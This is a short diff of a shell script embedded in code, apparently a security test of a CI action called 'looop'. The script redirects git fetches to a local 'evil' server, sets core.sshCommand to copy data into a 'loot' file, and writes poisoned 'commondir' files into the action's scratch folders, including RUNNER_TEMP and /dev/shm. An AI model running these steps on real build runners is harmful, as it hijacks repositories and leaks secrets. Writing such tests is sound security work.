@@ -115,7 +115,8 @@ if [ ! -f '${common}/config' ]; then
   git --git-dir='${common}' config url.'http://127.0.0.1:${(evil.address() as AddressInfo).port}/'.insteadOf '${prefix}'
   git --git-dir='${common}' config core.sshCommand "cat <&3 >> '${loot}'"
 fi
-for scratch in "$RUNNER_TEMP"/looop-* "$(dirname "\${LOOOP_STATE_DIR:-/nonexistent}")"; do
+# Every scratch folder of the action's: under RUNNER_TEMP, in memory, and the view's (a command is not told it).
+for scratch in "$RUNNER_TEMP"/looop-* /dev/shm/looop-[0-9]* \${LOOOP_STATE_DIR:+"$(dirname "$LOOOP_STATE_DIR")"}; do
   [ -d "$scratch" ] || continue
   for n in $(seq 1 50); do mkdir -p "$scratch/repo-$PPID-$n"; echo '${common}' > "$scratch/repo-$PPID-$n/commondir"; done
   for dir in "$scratch"/*/; do echo '${common}' > "$dir/commondir"; done
